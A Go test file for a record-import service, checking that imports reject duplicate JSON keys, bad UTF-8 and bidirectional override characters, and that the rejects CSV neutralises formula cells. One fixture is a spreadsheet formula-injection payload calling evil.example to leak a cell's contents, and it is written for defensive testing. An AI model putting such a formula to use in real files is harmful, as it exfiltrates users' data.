package ingest_test

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/chronicle-hub/chronicle/services/ingest"
)

// An import refuses a line whose text encoding/json would have changed on
// the way in (a name given twice, bad UTF-8, a bidirectional override),
// with its line and the field named, and stores the lines around it.
func TestImportRefusesRepeatedNamesAndForbiddenText(t *testing.T) {
	h := newHub(t)
	path := filepath.Join(t.TempDir(), "events.ndjson")
	ok := string(encode(t, event(t, "contact.received", "T-A")))
	twice := strings.Replace(string(encode(t, event(t, "contact.received", "T-B"))), `"sensitivity":"standard"`, `"sensitivity":"restricted","sensitivity":"standard"`, 1)
	badUTF8 := strings.Replace(string(encode(t, event(t, "contact.received", "T-C"))), `"summary":"`, "\"summary\":\"\xff", 1)
	bidi := strings.Replace(string(encode(t, event(t, "contact.received", "T-D"))), `"summary":"`, `"summary":"\u202e`, 1)
	writeFile(t, path, lines(ok, twice, badUTF8, bidi))

	sum := importFile(t, h, path, ingest.ImportOptions{MaxInFlight: 1})
	wantSummary(t, sum, ingest.Summary{Rows: 4, Accepted: 1, Rejected: 3, RejectsPath: ingest.RejectsPath(path)})
	h.wantCount(t, 1)
	got := readRejects(t, ingest.RejectsPath(path))
	want := []struct {
		line   int
		reason string
	}{
		{2, "sensitivity: appears more than once"},
		{3, "summary: is not valid UTF-8"},
		{4, "summary: contains the bidirectional control character U+202E"},
	}
	if len(got) != len(want) {
		t.Fatalf("%d rejects, want %d: %+v", len(got), len(want), got)
	}
	for i, w := range want {
		if got[i].Line != w.line || !strings.Contains(got[i].Reasons, w.reason) {
			t.Errorf("reject %d: line %d %q; want line %d %q", i, got[i].Line, got[i].Reasons, w.line, w.reason)
		}
	}
}

// A CSV cell that is not UTF-8 (a file saved in Windows-1252, say) is
// refused with its field named, not stored with U+FFFD in its place.
func TestImportCSVRefusesCellsThatAreNotUTF8(t *testing.T) {
	h := newHub(t)
	path := filepath.Join(t.TempDir(), "legacy.csv")
	writeCSV(t, path, [][]string{
		csvHeader,
		csvRow("contact.received", "U-1", "9990000018", nil),
		csvRow("contact.received", "U-2", "9990000018", map[string]string{"subject.name": "Zo\xeb Example"}),
		csvRow("contact.received", "U-3", "9990000018", map[string]string{"payload.concern": "Caf\xe9 staff worried"}),
	})
	sum := importFile(t, h, path, ingest.ImportOptions{})
	wantSummary(t, sum, ingest.Summary{Rows: 3, Accepted: 1, Rejected: 2, RejectsPath: ingest.RejectsPath(path)})
	h.wantCount(t, 1)
	raw, err := os.ReadFile(ingest.RejectsPath(path))
	if err != nil {
		t.Fatal(err)
	}
	rejects := string(raw)
	for _, want := range []string{"subjects[0].name: is not valid UTF-8", "payload.concern: is not valid UTF-8"} {
		if !strings.Contains(rejects, want) {
			t.Errorf("rejects lack %q:\n%s", want, rejects)
		}
	}
}

// The rejects CSV neutralises cells a spreadsheet would run as formulas,
// and importing it again, once fixed, stores the values as first sent.
func TestRejectsCSVIsSafeToOpenAndImportsBackUnchanged(t *testing.T) {
	h := newHub(t)
	dir := t.TempDir()
	path := filepath.Join(dir, "history.csv")
	concern := `=HYPERLINK("http://evil.example/?"&B2,"details")`
	writeCSV(t, path, [][]string{
		csvHeader,
		csvRow("contact.received", "F-1", "9990000019", map[string]string{"payload.concern": concern, "summary": "-3 days after the last visit"}),
	})
	sum := importFile(t, h, path, ingest.ImportOptions{})
	wantSummary(t, sum, ingest.Summary{Rows: 1, Rejected: 1, RejectsPath: ingest.RejectsPath(path)})
	raw, err := os.ReadFile(ingest.RejectsPath(path))
	if err != nil {
		t.Fatal(err)
	}
	rejects := string(raw)
	for _, want := range []string{`'=HYPERLINK(`, `'-3 days after`} {
		if !strings.Contains(rejects, want) {
			t.Fatalf("rejects file does not neutralise %q:\n%s", want, rejects)
		}
	}
	// The practitioner fixes the NHS number in a spreadsheet and imports
	// the rejects file (its _line and _reasons columns are ignored).
	fixed := filepath.Join(dir, "fixed.csv")
	if err := os.WriteFile(fixed, []byte(strings.Replace(rejects, "9990000019", "9990000018", 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	sum = importFile(t, h, fixed, ingest.ImportOptions{})
	wantSummary(t, sum, ingest.Summary{Rows: 1, Accepted: 1})
	e := h.stored(t, 1)
	if e.Summary != "-3 days after the last visit" {
		t.Errorf("summary stored as %q", e.Summary)
	}
	if got := string(e.Payload); !strings.Contains(got, `"concern":"=HYPERLINK(\"http://evil.example/?\"\u0026B2,\"details\")"`) && !strings.Contains(got, `"concern":"=HYPERLINK(\"http://evil.example/?\"&B2,\"details\")"`) {
		t.Errorf("payload stored as %s", got)
	}
}

// The NDJSON rejects file, once its events are fixed, imports as it is,
// as the CSV one does: each line's input is what is imported.
func TestRejectsNDJSONImportsBackOnceFixed(t *testing.T) {
	h := newHub(t)
	dir := t.TempDir()
	path := filepath.Join(dir, "history.ndjson")
	good := string(encode(t, event(t, "contact.received", "R-1")))
	badNHS := strings.Replace(string(encode(t, event(t, "contact.received", "R-2"))), "9990000018", "9990000019", 1)
	writeFile(t, path, lines(good, badNHS, "{not json at all"))
	sum := importFile(t, h, path, ingest.ImportOptions{})
	wantSummary(t, sum, ingest.Summary{Rows: 3, Accepted: 1, Rejected: 2, RejectsPath: ingest.RejectsPath(path)})

	raw, err := os.ReadFile(ingest.RejectsPath(path))
	if err != nil {
		t.Fatal(err)
	}
	// The practitioner fixes the NHS number and the broken line in the
	// rejects file and imports it.
	fixed := strings.Replace(string(raw), "9990000019", "9990000018", 1)
	fixed = strings.Replace(fixed, `"input_text":"{not json at all"`, `"input_text":`+strconv.Quote(string(encode(t, event(t, "contact.received", "R-3")))), 1)
	again := filepath.Join(dir, "fixed.ndjson")
	if err := os.WriteFile(again, []byte(fixed), 0o600); err != nil {
		t.Fatal(err)
	}
	sum = importFile(t, h, again, ingest.ImportOptions{})
	wantSummary(t, sum, ingest.Summary{Rows: 2, Accepted: 2})
	h.wantCount(t, 3)
	if refs := h.sourceRefs(t); strings.Join(refs, ",") != "R-1,R-2,R-3" {
		t.Fatalf("stored %v", refs)
	}
}
